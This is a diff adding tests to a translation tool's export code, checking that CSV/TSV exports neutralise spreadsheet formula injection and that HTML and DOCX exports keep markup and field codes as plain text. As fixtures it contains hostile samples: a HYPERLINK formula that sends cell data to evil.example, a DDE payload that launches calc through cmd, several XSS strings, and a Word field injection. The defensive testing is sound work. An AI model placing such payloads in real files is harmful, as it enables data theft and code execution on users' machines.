@@ -220,6 +220,70 @@ describe('CSV / TSV', () => {
     expect(rows[3]![2]).toBe('tab\there, "quote", and a\nnewline');
     expect(rows).toHaveLength(6);
   });
+
+  // Cells a spreadsheet would run as formulas: real sentences that start with "-" or "+", and crafted
+  // attacks (OWASP CSV injection). Excel-safe files get an apostrophe in front of exactly these.
+  const DIALOGUE_RU = '- Мы готовы продолжить диалог, — сказал министр.';
+  const GROWTH_EN = '+5% growth in trade between the two countries was recorded in 2024.';
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")';
+  const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const TAB_LED = '\t=1+1';
+  const CR_LED = '\r=2+2';
+  const craftedProject = (): Project => {
+    const p = sampleProject();
+    const set = (lang: 'en' | 'ru', id: string, text: string) => {
+      for (const para of p.targets[lang]!.paragraphs) for (const s of para.sentences) if (s.id === id) s.text = text;
+    };
+    set('ru', 'ru-s1', DIALOGUE_RU);
+    set('en', 'en-s2', GROWTH_EN);
+    set('en', 'en-s3', HYPERLINK);
+    set('en', 'en-s4', DDE);
+    set('en', 'en-s0', TAB_LED);
+    set('ru', 'ru-s3', CR_LED);
+    return p;
+  };
+  const triggers = /^[=+\-@\t\r]/;
+
+  it('plain CSV (no BOM) keeps every cell as written, formula-like ones included: a TM exchange file is not altered', async () => {
+    const rows = parseWithPython(save('plain.csv', await exportText(craftedProject(), 'csv')), ',');
+    expect(rows.slice(1).map((r) => r.slice(1, 4))).toEqual([
+      [ZH.title, TAB_LED, RU.title],
+      [ZH.visit + ZH.talks, EN.visitTalks, `${DIALOGUE_RU} ${RU.talks}`],
+      [ZH.parade, GROWTH_EN, ''],
+      ['', HYPERLINK, ''],
+      [ZH.declare, DDE, CR_LED],
+    ]);
+  });
+
+  it('CSV with BOM is Excel-safe by default: an apostrophe before exactly the cells that start with = + - @ TAB CR', async () => {
+    const p = craftedProject();
+    const plain = parseWithPython(save('p.csv', await exportText(p, 'csv')), ',');
+    const safe = parseWithPython(save('s.csv', await exportText(p, 'csv', { bom: true })), ',');
+    expect(safe[2]![3]).toBe(`'${DIALOGUE_RU} ${RU.talks}`);
+    expect(safe[3]![2]).toBe(`'${GROWTH_EN}`);
+    expect(safe[4]![2]).toBe(`'${HYPERLINK}`);
+    expect(safe[5]![2]).toBe(`'${DDE}`);
+    expect(safe[1]![2]).toBe(`'${TAB_LED}`);
+    expect(safe[5]![3]).toBe(`'${CR_LED}`);
+    // The sample's own sentences (dashes inside, quotes, numbers) and the other columns are untouched.
+    expect(safe[2]![1]).toBe(ZH.visit + ZH.talks);
+    expect(safe[1]![3]).toBe(RU.title);
+    expect(safe[0]).toEqual(plain[0]);
+    expect(safe.map((r) => r.slice(4))).toEqual(plain.map((r) => r.slice(4)));
+    // Cell by cell: the same text, prefixed where (and only where) a spreadsheet would see a formula.
+    expect(safe).toEqual(plain.map((r) => r.map((c) => (triggers.test(c) ? `'${c}` : c))));
+    expect(safe.flat().filter((c) => triggers.test(c))).toEqual([]);
+  });
+
+  it('excelSafe overrides the default both ways; TSV is defused the same way', async () => {
+    const p = craftedProject();
+    const unsafe = parseWithPython(save('u.csv', await exportText(p, 'csv', { bom: true, excelSafe: false })), ',');
+    expect(unsafe[4]![2]).toBe(HYPERLINK);
+    const tsv = parseWithPython(save('s.tsv', await exportText(p, 'tsv', { excelSafe: true })), '\t');
+    expect(tsv[4]![2]).toBe(`'${HYPERLINK}`);
+    expect(tsv[2]![3]).toBe(`'${DIALOGUE_RU} ${RU.talks}`);
+    expect(tsv.flat().filter((c) => triggers.test(c))).toEqual([]);
+  });
 });
 
 describe('HTML', () => {
@@ -249,6 +313,73 @@ describe('HTML', () => {
     expect(cells[0]!.slice(0, 4)).toEqual(['#', '中文', 'English', 'Русский']);
     expect(cells[4]!.slice(1, 3)).toEqual(['', EN.note.replace(BELL, '')]);
     expect(cells[5]!.at(-1)).toBe('error <script>alert(1)</script>');
+  });
+});
+
+const HYPERLINK_TEXT = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+const DIALOGUE_TEXT = '- Мы готовы продолжить диалог, — сказал министр.';
+
+describe('HTML and DOCX carry formula-like and markup-like text as text', () => {
+  it('HTML: markup in a segment, a finding and the project name never becomes an element or an attribute', async () => {
+    const p = sampleProject();
+    p.name = '"><script>alert(1)</script>';
+    p.source.paragraphs[1]!.sentences[0]!.text = '</td></tr></table><iframe src="//evil.example"></iframe>';
+    p.targets.en!.paragraphs[2]!.sentences[0]!.text = `<img src=x onerror='alert(1)'> & =HYPERLINK("http://evil.example")`;
+    const html = await exportText(p, 'html', { findings: [{ sentenceIds: ['en-s3'], severity: 'warning', message: '<a href="javascript:alert(1)">x</a>' }] });
+    const tags = new Set<string>();
+    const attrs = new Set<string>();
+    const cells: string[] = [];
+    let cell: string | undefined;
+    const parser = new Parser({
+      onopentag: (name, a) => {
+        tags.add(name);
+        for (const k of Object.keys(a)) attrs.add(k);
+        if (name === 'td') cell = '';
+      },
+      ontext: (t) => {
+        if (cell !== undefined) cell += t;
+      },
+      onclosetag: (name) => {
+        if (name === 'td' && cell !== undefined) cells.push(cell);
+        if (name === 'td') cell = undefined;
+      },
+    }, { decodeEntities: true });
+    parser.write(html);
+    parser.end();
+    expect([...tags].sort()).toEqual(['body', 'h1', 'head', 'html', 'meta', 'span', 'style', 'table', 'tbody', 'td', 'th', 'thead', 'title', 'tr']);
+    expect([...attrs].sort()).toEqual(['charset', 'class', 'lang']);
+    expect(cells).toContain(p.source.paragraphs[1]!.sentences[0]!.text + ZH.talks);
+    expect(cells).toContain(p.targets.en!.paragraphs[2]!.sentences[0]!.text);
+    expect(cells).toContain('warning <a href="javascript:alert(1)">x</a>');
+  });
+
+  it('DOCX: formula- and field-like text stays a run of text in its cell; every relationship the body names exists', async () => {
+    const p = sampleProject();
+    const field = '<w:fldSimple w:instr="HYPERLINK http://evil.example"/> & \'quotes\' "too"';
+    p.targets.en!.paragraphs[1]!.sentences[1]!.text = HYPERLINK_TEXT;
+    p.targets.ru!.paragraphs[1]!.sentences[0]!.text = DIALOGUE_TEXT;
+    p.source.paragraphs[1]!.sentences[2]!.text = field;
+    const r = await exportProject(p, 'docx', { findings: [{ sentenceIds: ['zh-s3'], severity: 'error', message: '=cmd|x <b>' }] });
+    const JSZip = (await import('jszip')).default;
+    const zip = await JSZip.loadAsync(r.data as Uint8Array);
+    const doc = await zip.file('word/document.xml')!.async('string');
+    const root = parseXml(doc, 'document.xml');
+    const all = (el: ReturnType<typeof parseXml>, local: string): ReturnType<typeof parseXml>[] => el.children.flatMap((c) => (typeof c === 'string' ? [] : c.local === local ? [c, ...all(c, local)] : all(c, local)));
+    const rows = childElements(all(root, 'tbl')[0]!, 'tr').map((tr) => childElements(tr, 'tc').map((tc) => all(tc, 't').map(textContent).join('')));
+    expect(rows[3]!.slice(1, 3)).toEqual([field, HYPERLINK_TEXT]);
+    expect(rows[2]![3]).toBe(`${DIALOGUE_TEXT} ${RU.talks}`);
+    expect(all(root, 'fldSimple')).toEqual([]);
+    expect(all(root, 'instrText')).toEqual([]);
+    const comments = await zip.file('word/comments.xml')!.async('string');
+    expect(comments).toContain('error =cmd|x &lt;b&gt;');
+    // The table is written apart from the rest of the body: the ids it and the body use must resolve.
+    const rels = await zip.file('word/_rels/document.xml.rels')!.async('string');
+    const ids = [...doc.matchAll(/ r:id="([^"]+)"/g)].map((m) => m[1]);
+    expect(ids.length).toBeGreaterThan(0);
+    for (const id of ids) expect(rels).toContain(`Id="${id}"`);
+    const footerRel = /Id="([^"]+)" Type="[^"]+\/footer" Target="([^"]+)"/.exec(rels)!;
+    expect(doc).toContain(`<w:footerReference w:type="default" r:id="${footerRel[1]}"/>`);
+    expect(zip.file(`word/${footerRel[2]}`)).not.toBeNull();
   });
 });
 
